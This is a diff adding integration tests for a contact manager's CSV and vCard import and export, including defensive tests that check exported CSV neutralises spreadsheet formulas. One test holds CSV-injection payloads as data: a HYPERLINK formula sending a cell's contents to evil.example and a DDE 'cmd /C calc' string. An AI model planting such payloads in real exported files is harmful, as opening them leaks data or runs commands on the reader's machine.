@@ -3,7 +3,9 @@ python3-icalendar (UIDs stable across exports and unique to a database,
 SEQUENCE after a reschedule, alarms, closed follow-ups cancelled), CSV
 read back by Python's csv module, JSON holding the protocol's objects;
 contacts imported from CSV files as CRMs and spreadsheets write them and
-from vCards written by python3-vobject.
+from vCards written by python3-vobject, and from the files in fixtures/,
+byte for byte as Google Contacts, Salesforce, Outlook (English, German,
+French) and an old phone's vCard 2.1 write them.
 
 Bad input tried: an unknown format, --what with ics, rows with the wrong
 number of fields, a row without a name, an unclosed quote, a bad email, an
@@ -16,6 +18,7 @@ import io
 import json
 import os
 import pwd
+import re
 import shutil
 import signal
 import subprocess
@@ -24,7 +27,7 @@ import time
 
 import pytest
 
-from fu import FAKETIME_LIB, FOLLOWUP, FOLLOWUPD, WRAPPER, Daemon
+from fu import FAKETIME_LIB, FOLLOWUP, FOLLOWUPD, SRCDIR, WRAPPER, Daemon
 
 icalendar = pytest.importorskip("icalendar")
 vobject = pytest.importorskip("vobject")
@@ -249,6 +252,73 @@ def test_csv_export_is_rfc4180_and_holds_every_table(daemon, tmp_path):
         [("followup", "pending", "quote")]
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_export_neutralises_formulas_and_reads_back(daemon, tmp_path):
+    # What a spreadsheet would run: = + - @ (OWASP), and text that
+    # already begins with a quote before one of them.
+    c = add_contact(daemon, "Mallory", company="@SUM(1+1)*cmd|' /C calc'!A0",
+                    phone="+44 20 7946 0001", email="m@example.com",
+                    notes=HYPERLINK)
+    add_contact(daemon, "Quoted", company="'=already quoted",
+                notes="-2+3", email="q@example.com")
+    add_contact(daemon, "Plain", company="O'Brien & Sons",
+                notes="'tis fine", email="p@example.com")
+    daemon.call("interaction.add", contact=c["id"], kind="note",
+                note="=1+2")
+    doc = export(daemon, tmp_path, "--format", "csv", name="c.csv")
+    rows = {r["Name"]: r for r in
+            csv.DictReader(io.StringIO(doc.decode(), newline=""))}
+    m = rows["Mallory"]
+    assert m["Notes"] == "'" + HYPERLINK
+    assert m["Company"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert m["Phone"] == "'+44 20 7946 0001"
+    assert rows["Quoted"]["Company"] == "''=already quoted"
+    assert rows["Quoted"]["Notes"] == "'-2+3"
+    # Nothing else gets a quote.
+    assert rows["Plain"]["Company"] == "O'Brien & Sons"
+    assert rows["Plain"]["Notes"] == "'tis fine"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for r in rows.values() for v in r.values())
+    doc = export(daemon, tmp_path, "--format", "csv", "--what",
+                 "interactions", name="i.csv")
+    assert next(csv.DictReader(io.StringIO(doc.decode(), newline="")))[
+        "Note"] == "'=1+2"
+
+    # Our own import takes each guard quote off again: nothing changes.
+    r = imp(daemon, tmp_path / "c.csv")
+    assert r["counts"]["unchanged"] == 3, r
+    other = tmp_path / "other"
+    other.mkdir()
+    b = Daemon(other)
+    b.start()
+    try:
+        assert imp(b, tmp_path / "c.csv")["counts"]["added"] == 3
+        got = by_email(b)
+        assert got["m@example.com"]["notes"] == HYPERLINK
+        assert got["m@example.com"]["phone"] == "+44 20 7946 0001"
+        assert got["m@example.com"]["company"] == \
+            "@SUM(1+1)*cmd|' /C calc'!A0"
+        assert got["q@example.com"]["company"] == "'=already quoted"
+        assert got["q@example.com"]["notes"] == "-2+3"
+        assert got["p@example.com"]["notes"] == "'tis fine"
+    finally:
+        b.stop()
+
+
+def test_csv_export_with_a_byte_order_mark(daemon, tmp_path):
+    add_contact(daemon, "Jürgen Müller", email="jm@example.de")
+    plain = export(daemon, tmp_path, "--format", "csv", name="p.csv")
+    doc = export(daemon, tmp_path, "--format", "csv", "--bom", name="b.csv")
+    assert doc == b"\xef\xbb\xbf" + plain
+    assert imp(daemon, tmp_path / "b.csv")["counts"]["unchanged"] == 1
+    rc, out, err = daemon.client("--json", "export", "--format", "csv",
+                                 "--bom", "--what", "followups")
+    assert rc == 0 and json.loads(out)["document"].startswith(
+        "\ufeffID,Contact ID,"), out
+
+
 def test_json_export_holds_the_protocols_objects(daemon, tmp_path):
     c = add_contact(daemon, "Dora", email="dora@example.com")
     i = daemon.call("interaction.add", contact=c["id"], kind="note",
@@ -285,7 +355,8 @@ def test_export_refuses_bad_arguments(daemon, conn):
                         "unknown table"),
                        ([], "which format"),
                        (["--owner", "x", "--all", "--format", "csv"],
-                        "once")):
+                        "once"),
+                       (["--format", "json", "--bom"], "--bom")):
         rc, out, err = daemon.client("export", *args)
         assert rc == 2 and word in err, (args, err)
     assert conn.error("export", format="pdf")["code"] == "bad_request"
@@ -294,6 +365,10 @@ def test_export_refuses_bad_arguments(daemon, conn):
     assert conn.error("export", format="csv",
                       what="deals")["code"] == "bad_request"
     assert conn.error("export")["code"] == "bad_request"
+    assert conn.error("export", format="ics",
+                      bom=True)["code"] == "bad_request"
+    assert conn.error("export", format="csv",
+                      bom="yes")["code"] == "bad_request"
 
 
 # --- import ---
@@ -373,6 +448,29 @@ def test_import_matches_by_email_and_updates(daemon, tmp_path):
     # Again: nothing changes.
     r = imp(daemon, path)
     assert r["counts"]["unchanged"] == 2 and r["counts"]["added"] == 0
+
+
+def test_import_matches_email_in_any_case_of_any_letter(daemon, tmp_path):
+    # Local parts beyond ASCII, as reps' contacts have them; upper-cased
+    # by Python (a sharp s becomes SS) as a spreadsheet's UPPER() or a
+    # CRM would.
+    parts = ["jürgen.müller", "straße", "françois", "ωμέγα", "иван",
+             "zoë", "łukasz", "çağla", "josé", "ana"]
+    rows = ["Name,Email"]
+    for i in range(300):
+        rows.append("Person %d,%s.%d@example.com" % (i, parts[i % 10], i))
+    path = tmp_path / "a.csv"
+    path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
+    assert imp(daemon, path)["counts"]["added"] == 300
+    upper = tmp_path / "upper.csv"
+    upper.write_text("\r\n".join(r.upper() for r in rows) + "\r\n",
+                     encoding="utf-8")
+    r = imp(daemon, upper)
+    assert r["counts"] == {"added": 0, "updated": 300, "unchanged": 0,
+                           "skipped": 0}, r["counts"]
+    assert daemon.call("status")["counts"]["contacts"] == 300
+    # The address keeps the spelling the rep had.
+    assert "straße.1@example.com" in by_email(daemon)
 
 
 def test_import_closing_a_deal_cancels_its_followups(daemon, tmp_path):
@@ -480,6 +578,179 @@ def test_vcard_import_of_a_file_written_by_vobject(daemon, tmp_path):
     other.write_text(doc, newline="")
     r = imp(daemon, other, "--format", "vcard")
     assert r["counts"]["unchanged"] == 2
+
+
+# --- files as real tools write them (tests/integration/fixtures) ---
+
+
+def fixture(name):
+    return os.path.join(SRCDIR, "tests", "integration", "fixtures", name)
+
+
+def test_google_contacts_csv_keeps_the_first_of_joined_values(daemon):
+    r = imp(daemon, fixture("google-contacts.csv"))
+    assert r["counts"] == {"added": 3, "updated": 0, "unchanged": 0,
+                           "skipped": 0}, r
+    got = by_email(daemon)
+    # "+34 612 34 56 78 ::: +34 91 123 45 67": the first is the phone,
+    # the second goes to the notes.
+    lucia = got["lucia@azulejoslevante.es"]
+    assert lucia["name"] == "Lucía Fernández"
+    assert lucia["company"] == "Azulejos Levante S.L."
+    assert lucia["phone"] == "+34 612 34 56 78"
+    assert lucia["notes"] == "Other phone: +34 91 123 45 67"
+    # Two addresses in one cell were "not an email address" for the row.
+    marco = got["marco.rossi@ceramicherossi.it"]
+    assert marco["name"] == "Marco Rossi"
+    assert marco["notes"] == ("Met at Cevisama.\n"
+                              "Other email: m.rossi@example.com")
+    assert got["emma.schmidt@example.de"]["name"] == "Emma Schmidt"
+    # Read again, nothing changes: the notes are built the same way.
+    assert imp(daemon, fixture("google-contacts.csv"))["counts"][
+        "unchanged"] == 3
+
+
+def test_salesforce_lead_report_keeps_the_company(daemon):
+    r = imp(daemon, fixture("salesforce-leads.csv"))
+    assert r["counts"]["added"] == 2, r
+    got = by_email(daemon)
+    priya = got["priya.natarajan@northwind.example"]
+    assert priya["name"] == "Priya Natarajan"
+    assert priya["company"] == "Northwind Traders"
+    assert priya["phone"] == "(415) 555-0134"
+    assert got["tbecker@fabrikam.example"]["company"] == "Fabrikam, Inc."
+    assert got["tbecker@fabrikam.example"]["phone"] == "+1 206 555 0199"
+
+
+def test_outlook_account_number_is_not_a_company(daemon):
+    rc, out, err = daemon.client("import", "--dry-run",
+                                 fixture("outlook.csv"))
+    assert rc == 0, err
+    assert re.search(r"^  Account +\(ignored\)$", out, re.M), out
+    r = imp(daemon, fixture("outlook.csv"))
+    assert r["counts"]["added"] == 2, r
+    got = by_email(daemon)
+    jane = got["jane.smith@contoso.example"]
+    assert jane["name"] == "Jane Smith" and jane["company"] is None
+    assert jane["phone"] == "+1 (425) 555-0100"
+    assert jane["notes"] == "Prefers mornings."
+    assert got["ravi.kumar@contoso.example"]["company"] == "Contoso Ltd"
+
+
+@pytest.mark.parametrize("name, people", [
+    ("outlook-de.csv", {
+        "j.mueller@baeckerei-gross.example": (
+            "Jürgen Müller", "Bäckerei Groß GmbH", "+49 221 123456",
+            "Rückruf nach 14 Uhr."),
+        "sabine.weiss@example.de": (
+            "Sabine Weiß", None, "+49 160 9876543", None)}),
+    ("outlook-fr.csv", {
+        "helene@boulangerie-lefevre.example": (
+            "Hélène Lefèvre", "Boulangerie Lefèvre SARL",
+            "+33 4 72 00 00 01", "Préfère être appelée le matin."),
+        "f.dubois@example.fr": (
+            "François Dubois", None, "+33 7 98 76 54 32", None)})])
+def test_localised_outlook_headers(daemon, name, people):
+    # Outlook writes these in the Windows code page, not UTF-8.
+    with open(fixture(name), "rb") as f:
+        raw = f.read()
+    with pytest.raises(UnicodeDecodeError):
+        raw.decode("utf-8")
+    r = imp(daemon, fixture(name))
+    assert r["counts"] == {"added": 2, "updated": 0, "unchanged": 0,
+                           "skipped": 0}, r
+    got = by_email(daemon)
+    for email, (full, company, phone, notes) in people.items():
+        c = got[email]
+        assert (c["name"], c["company"], c["phone"], c["notes"]) == (
+            full, company, phone, notes)
+
+
+def test_vcard_21_quoted_printable_in_its_charset(daemon):
+    raw = open(fixture("vcard21-latin1.vcf"), "rb").read()
+    assert b"M=FCller;J=FCrgen" in raw and b"Gro\xdf" in raw
+    r = imp(daemon, fixture("vcard21-latin1.vcf"))
+    assert r["counts"] == {"added": 2, "updated": 0, "unchanged": 0,
+                           "skipped": 0}, r
+    got = {c["name"]: c for c in
+           daemon.call("contact.list", limit=100)["contacts"]}
+    jm = got["Jürgen Müller"]
+    assert jm["company"] == "Bäckerei Groß GmbH"
+    assert jm["email"] == "j.mueller@baeckerei-gross.example"
+    assert jm["phone"] == "+49 221 123456"
+    assert jm["notes"] == "Rückruf nach 14 Uhr.\r\nGrüße aus Köln"
+    sw = got["Sabine Weiß"]
+    assert sw["notes"] == "Budget 5.000 €"
+
+
+def test_archived_column_of_our_export_is_read(daemon, tmp_path):
+    r = imp(daemon, fixture("followup-export.csv"))
+    assert r["counts"] == {"added": 3, "updated": 0, "unchanged": 0,
+                           "skipped": 0}, r
+    live = {c["name"] for c in
+            daemon.call("contact.list", limit=100)["contacts"]}
+    gone = daemon.call("contact.list", archived=True,
+                       limit=100)["contacts"]
+    assert live == {"Ada Lovelace", "Carla Diaz"}
+    assert [c["name"] for c in gone] == ["Bob Builder"]
+    assert gone[0]["archived"] and gone[0]["stage"] == "lost"
+    # The guard quotes the export put before a phone's + and a formula
+    # are taken off.
+    assert gone[0]["notes"] == HYPERLINK
+    assert by_email(daemon)["carla@example.com"]["phone"] == "+1 555 0100"
+    # Read again: the archived one is unchanged, not refused.
+    r = imp(daemon, fixture("followup-export.csv"))
+    assert r["counts"]["unchanged"] == 3, r
+
+    # A live contact the file says is archived is archived, and its
+    # follow-ups cancelled as contact.archive would.
+    c = add_contact(daemon, "Dan Live", email="dan@example.com")
+    daemon.call("followup.add", contact=c["id"], due="tomorrow 10:00")
+    path = tmp_path / "a.csv"
+    path.write_text("Name,Email,Archived\r\nDan Live,dan@example.com,yes\r\n"
+                    "Eve,eve@example.com,maybe\r\n"
+                    "Bob Builder,bob@example.com,no\r\n")
+    r = imp(daemon, path)
+    res = {x["line"]: x for x in r["results"]}
+    assert res[2]["status"] == "updated" and res[2]["cancelled"] == 1, r
+    assert daemon.call("contact.get", id=c["id"])["contact"]["archived"]
+    # A value that is neither yes nor no loses nothing: the row is shown.
+    assert res[3]["status"] == "skipped"
+    assert res[3]["reason"] == 'Archived is "maybe" (yes or no)'
+    # The file says Bob is live, the database has him archived: the rep
+    # restores him first, as before.
+    assert res[4]["status"] == "skipped"
+    assert "archived; restore it first" in res[4]["reason"]
+
+
+def test_archived_contacts_come_back_archived(daemon, tmp_path):
+    add_contact(daemon, "Kept", email="kept@example.com")
+    c = add_contact(daemon, "Gone", email="gone@example.com")
+    daemon.call("contact.archive", id=c["id"])
+    export(daemon, tmp_path, "--format", "csv", name="c.csv")
+    # Into another database, as when a rep moves to a new server.
+    other = tmp_path / "other"
+    other.mkdir()
+    b = Daemon(other)
+    b.start()
+    try:
+        r = imp(b, tmp_path / "c.csv")
+        assert r["counts"]["added"] == 2, r
+        assert [x["name"] for x in b.call(
+            "contact.list", archived=True, limit=10)["contacts"]] == ["Gone"]
+        assert [x["name"] for x in b.call(
+            "contact.list", limit=10)["contacts"]] == ["Kept"]
+    finally:
+        b.stop()
+
+
+def test_contact_import_archived_must_be_a_boolean(conn):
+    r = conn.call("contact.import", contacts=[
+        {"line": 1, "name": "A", "archived": "yes"},
+        {"line": 2, "name": "B", "archived": True}])
+    assert r["results"][0]["status"] == "skipped"
+    assert r["results"][0]["reason"] == '"archived" must be true or false'
+    assert r["results"][1]["status"] == "added"
 
 
 def test_exported_csv_imports_back(daemon, tmp_path):
